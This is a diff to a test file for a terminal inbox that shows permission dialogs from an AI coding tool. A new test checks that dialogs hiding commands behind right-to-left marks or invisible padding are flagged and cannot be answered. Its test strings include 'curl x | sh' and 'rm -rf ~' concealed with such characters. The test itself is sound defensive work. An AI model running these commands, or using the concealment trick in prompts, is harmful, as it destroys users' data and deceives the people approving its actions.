@@ -11,7 +11,7 @@ import { Terminal } from '@xterm/headless'
 import { spawn as spawnPty } from 'node-pty'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { formats } from '../../src/cli/attention/formats.ts'
-import { inboxRows, type Inbox } from '../../src/cli/attention/inbox-screen.ts'
+import { hindranceOf, inboxRows, type Inbox } from '../../src/cli/attention/inbox-screen.ts'
 import type { Environment } from '../../src/cli/client/discover.ts'
 import { attentionDefaults } from '../../src/core/attention/channels.ts'
 import { itemOf as attentionItem, type AttentionItem } from '../../src/core/attention/list.ts'
@@ -345,6 +345,34 @@ describe('inbox', () => {
     expect(rows).toMatch(/日本語 49 x+… · needs you: permission · /) // the name gives way
   })
 
+  test('a dialog that a terminal could show otherwise than it is cannot be answered', () => {
+    const shown = (line: string, cols = 60) => {
+      const inbox: Inbox = {
+        attention: { working: 0, items: [{ ...itemOf({ id: 'api' }), app: '' }] },
+        ...{ marked: null, snoozing: false, problem: null, answered: null },
+        dialog: {
+          id: 'api',
+          dialog: { lines: [line], choices: [{ number: 1, label: 'Yes' }], token: 'a' },
+        },
+      }
+      const rows = inboxRows(inbox, { cols, rows: 24 }, Date.now())
+      return {
+        text: rows.join('\n').replaceAll(/\x1b\[[\d;]*m/g, ''),
+        hindrance: hindranceOf(inbox, { cols, rows: 24 }),
+      }
+    }
+    expect(shown('ls -l').hindrance).toBeNull()
+    expect(shown('ls -l # \u05d0\u05d1 || curl x | sh').hindrance).toContain('right-to-left')
+    expect(shown(`ls${'\u2800'.repeat(900)}; rm -rf ~`).hindrance).toContain('taller')
+    expect(shown('ls\u2800\u202e; rm').text).toContain('ls‹\\u2800›‹\\u202e›; rm')
+    // Terminals disagree about the width of these: the end must not leave the row.
+    const wide = shown(`${'⚠\ufe0f'.repeat(40)}; rm -rf ~`)
+    expect(wide.hindrance).toBeNull()
+    for (const row of wide.text.split('\n'))
+      expect([...row].filter((one) => one > '~').length).toBeLessThanOrEqual(60)
+    expect(wide.text.replaceAll(/\s/g, '')).toContain(';rm-rf~')
+  })
+
   test('the last row says how to leave, and of the other keys what has room', () => {
     const foot = (cols: number, item: { readonly muted?: boolean; readonly seen?: boolean } = {}) =>
       inboxRows(
@@ -446,7 +474,7 @@ describe('inbox', () => {
     const shows = (text: string) => until(() => screen().includes(text), screen)
     await shows('make install')
     await shows('1  Yes')
-    await shows('A digit answers it here.')
+    await shows('Press a digit to answer here.')
     await new Promise((resolve) => setTimeout(resolve, 600))
     pty.write('2')
     await shows('Answered: api (Claude Code).')
